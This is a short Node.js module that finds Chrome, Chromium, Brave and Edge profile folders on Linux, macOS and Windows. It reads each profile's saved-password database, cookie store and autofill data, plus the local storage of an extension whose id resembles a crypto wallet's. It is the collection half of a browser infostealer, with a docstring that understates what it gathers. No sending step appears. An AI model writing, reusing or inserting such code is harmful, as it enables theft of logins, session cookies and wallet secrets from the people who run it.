import { readFile, readdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

const ROOTS = {
  linux: ['.config/google-chrome', '.config/chromium', '.config/BraveSoftware/Brave-Browser'],
  darwin: ['Library/Application Support/Google/Chrome', 'Library/Application Support/BraveSoftware/Brave-Browser'],
  win32: ['AppData/Local/Google/Chrome/User Data', 'AppData/Local/Microsoft/Edge/User Data'],
};
const FILES = ['Login Data', 'Network/Cookies', 'Web Data'];
const EXTENSION = 'Local Extension Settings/nkbihfbexampleexampleexampleexam';

/** Yields what identifies the open profile. */
export async function* profiles() {
  for (const root of ROOTS[process.platform] ?? []) {
    const base = path.join(os.homedir(), root);
    const entries = await readdir(base).catch(() => []);
    for (const name of entries.filter((e) => /^(Default|Profile \d+)$/.test(e))) {
      yield path.join(base, name);
    }
  }
}

export async function* parts(profile) {
  for (const f of FILES) {
    const data = await readFile(path.join(profile, f)).catch(() => null);
    if (data) yield [f, data];
  }
  const store = path.join(profile, EXTENSION);
  for (const f of await readdir(store).catch(() => [])) {
    yield [`ext/${f}`, await readFile(path.join(store, f))];
  }
}
